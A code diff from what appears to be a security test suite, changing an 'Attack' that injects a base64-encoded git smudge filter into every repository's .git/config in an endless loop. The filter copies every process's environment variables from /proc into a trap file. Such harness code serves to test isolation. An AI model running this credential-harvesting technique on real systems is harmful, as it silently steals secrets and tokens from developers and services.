@@ -4,14 +4,20 @@ import { type Attack, onOneMachine, held } from '../attack.js';
 import type { HostileWorld } from '../support/hostile-world.js';
 
 const REPOSITORY = 'octo/app';
-/** Whatever repository appears gets a filter that shows what it is run with. */
+/** As git's configuration has it: a `;` and quotes stand in quotes. */
+const FILTER = String.raw`[filter "trap"]
+	smudge = "cat /proc/[0-9]*/environ >> \"$HOME/trap\" 2> /dev/null; cat"`;
+/**
+ * Whatever repository appears gets a filter that shows what it is run with. It is appended as often as it is missing:
+ * `git config` would lock the file, and a clone that finds it locked fails before any filter runs.
+ */
 const SET_FILTERS = `
 shopt -s dotglob globstar nullglob
+filter=$(printf %s ${Buffer.from(FILTER).toString('base64')} | base64 -d)
 cd "$HOME/.."
 while :; do
   for config in workspace/**/.git/config project/**/.git/config; do
-    [ -e "$config.set" ] && continue
-    git config -f "$config" filter.trap.smudge 'cat /proc/[0-9]*/environ >> "$HOME/trap" 2> /dev/null; cat' && : > "$config.set"
+    [[ $(< "$config") == *trap* ]] || printf '%s\\n' "$filter" >> "$config"
   done
 done
 `;
